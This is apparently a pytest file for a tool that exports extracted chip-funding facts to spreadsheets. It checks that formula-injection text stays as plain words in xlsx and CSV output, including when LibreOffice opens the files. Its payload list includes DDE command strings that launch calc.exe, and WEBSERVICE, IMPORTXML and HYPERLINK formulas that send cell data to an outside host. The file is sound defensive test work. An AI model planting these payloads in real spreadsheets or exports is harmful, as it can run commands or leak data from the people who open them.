"""Two hundred formulas in the words of an article stay words: in the workbook, in Excel's CSV, in what LibreOffice makes of both.

`make office` asks LibreOffice; without it those tests are skipped.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import RunCli, new_fact

from chipfacts.model import Document, Fact, Sheet, Span
from chipfacts.sheet import FORMATS, Format, read_rows, write
from chipfacts.sheet.cell import unguard_formula
from chipfacts.sheet.format import RECORDS
from chipfacts.sheet.order import by_place

BEFORE = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u3000=", "＝", "＋", "－", "＠", "=+-", "-+@", "'="]
FORMULAS = [
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("http://x.example/?"&A1,"more")',
    'WEBSERVICE("http://x.example")',
    'DDE("soffice";"a";"b")',
    'IMPORTXML("http://x.example","//a")',
    "MSEXCEL|'\\..\\..\\calc.exe'!''",
    "2*3;4",
    'T("a")&"b"',
    "A1",
    "{1,2}",
    "Sheet1!A1",
]
PAYLOADS = [before + formula for before, formula in product(BEFORE, FORMULAS)]
# Words that only look like formulas: they must come back as they are, too.
HARMLESS = [
    *("-5", "-5%", "-1,234.5", "+86 10 1234 5678", "+1-202-555-0100", "- XINLIU -", "-", "—", "=", "@"),
    *("'tis", "1-2", "007", "1E5", "2024-05", "TRUE"),
]
WORDS = PAYLOADS + HARMLESS
SOFFICE = shutil.which("soffice")
needs_office = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed; make office runs these")


def planted(word: str, number: int) -> Fact:
    """A fact whose every text is this word."""
    return new_fact(
        fact_id=f"{number:012x}",
        doc=word,
        company=word,
        round=word,
        chip=word,
        foundry=word,
        investors=(word, "甲"),
        lead_investors=(word,),
        quote=word,
        rule=word,
        start=number,
        end=number + len(word),
        spans={"company": (Span(number, number + 1),)},
    )


FACTS = by_place(planted(word, number) for number, word in enumerate(WORDS))
SHEET = Sheet(FACTS, tuple(Document(fact.doc, "", "", title=fact.quote, url=fact.quote) for fact in FACTS), "0.1.0", "ab12")


def test_enough() -> None:
    """Two hundred, all different."""
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("format", [name for name in FORMATS if not RECORDS[name].is_terminal])
def test_they_come_back_as_they_were(tmp_path: Path, format: Format) -> None:
    """From every format: nothing is lost by the guard."""
    write(SHEET, tmp_path / "f", format)
    back = by_place(read_rows(tmp_path / "f", format))
    assert [(fact.doc, fact.company, fact.quote, fact.investors) for fact in back] == [
        (fact.doc, fact.company, fact.quote, fact.investors) for fact in FACTS
    ]


def formulas_in(workbook: bytes) -> list[str]:
    """The formulas of all worksheets, from the XML itself; a boolean as LibreOffice writes it is none."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    return [found for sheet in sheets for found in re.findall(r"<f[ >/][^<]*", sheet) if not re.search(r">(TRUE|FALSE)\(\)$", found)]


def test_the_workbook_holds_words(tmp_path: Path) -> None:
    """Every such cell is a string, and stays one when somebody types into it (quotePrefix); no formula, no outside link, no name."""
    write(SHEET, tmp_path / "f.xlsx")
    data = (tmp_path / "f.xlsx").read_bytes()
    assert formulas_in(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert not [name for name in book.namelist() if "externalLink" in name or "connections" in name or "vba" in name.lower()]
        assert not [name for name in book.namelist() if name.endswith(".rels") and b'TargetMode="External"' in book.read(name)]
    sheet = openpyxl.load_workbook(io.BytesIO(data))["funding"]
    heads = [cell.value for cell in sheet[1]]
    companies = [row[heads.index("company")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in companies} == {"s"}
    assert [cell.quotePrefix for cell in companies] == [to_guard(fact.company or "") for fact in FACTS]


def to_guard(text: str) -> bool:
    """What this test holds for dangerous, apart from the code: a sign or its wide twin, with something behind it; TAB or CR in front."""
    bare = text.lstrip("'")
    return bare[:1] in ("\t", "\r") or (bare.lstrip()[:1] in tuple("=+-@＝＋－＠") and len(bare.strip()) > 1)


def test_the_check_itself(tmp_path: Path) -> None:
    """A workbook with a formula is seen."""
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(tmp_path / "f.xlsx")
    assert formulas_in((tmp_path / "f.xlsx").read_bytes()) == ["<f>1+1"]


def test_in_an_article(run_cli: RunCli, tmp_path: Path) -> None:
    """Through the command: article, file name, title and address all try."""
    lines = [f"{payload}“云岭{chr(0x4E00 + number)}微”完成3亿元B轮融资，{payload}领投。" for number, payload in enumerate(PAYLOADS)]
    (tmp_path / "=1+1.txt").write_text("\n\n".join(lines), encoding="utf-8", newline="")
    (tmp_path / "sources.yaml").write_text('"=1+1.txt": {title: "=1+1", url: "=HYPERLINK(1)", published: "2024-11-30"}\n', encoding="utf-8")
    assert run_cli("extract", ".", "-o", "f.xlsx").returncode == 0
    assert run_cli("extract", ".", "-o", "f.jsonl").returncode == 0
    facts = read_rows(tmp_path / "f.jsonl")
    assert len(facts) > 150
    assert read_rows(tmp_path / "f.xlsx") == facts
    assert formulas_in((tmp_path / "f.xlsx").read_bytes()) == []


def office(folder: Path, name: str, *options: str) -> bytes:
    """The file as LibreOffice saves it as a workbook."""
    assert SOFFICE is not None
    out = folder / "office"
    command = [SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", *options]
    run = subprocess.run([*command, "--convert-to", "xlsx", "--outdir", out, folder / name], capture_output=True, timeout=180, check=False)
    result = out / f"{Path(name).stem}.xlsx"
    assert result.is_file(), run.stderr.decode()
    return result.read_bytes()


def grid(workbook: bytes, sheet: str | None = None) -> list[list[Any]]:
    """The values of a worksheet."""
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return [list(row) for row in (book[sheet] if sheet else book.active).iter_rows(values_only=True)]


@needs_office
def test_libreoffice_opens_the_workbook(tmp_path: Path) -> None:
    """It finds no formula, and what it saves again holds the same facts: no repair, no other value."""
    write(SHEET, tmp_path / "f.xlsx")
    data = office(tmp_path, "f.xlsx")
    assert formulas_in(data) == []
    assert read_rows(data, "xlsx") == FACTS
    assert grid(data, "Overview")[0][0] == "company"


@needs_office
def test_libreoffice_opens_the_csv_for_excel(tmp_path: Path) -> None:
    """No cell runs; taking the guard off gives the words. The same words without it do run, or this test would prove nothing."""
    write(SHEET, tmp_path / "f.csv", "excel-csv")
    data = office(tmp_path, "f.csv", "--infilter=CSV:44,34,76")
    assert formulas_in(data) == []
    heads, *rows = grid(data)
    place = heads.index("quote")
    words = [fact.quote for fact in FACTS if fact.quote in PAYLOADS and "\r" not in fact.quote]  # LibreOffice ends lines its own way
    found = [unguard_formula(str(row[place])) for row in rows]
    assert [word for word in words if word not in found] == []
    with (tmp_path / "bare.csv").open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([word] for word in WORDS)
    assert len(formulas_in(office(tmp_path, "bare.csv", "--infilter=CSV:44,34,76"))) > 20
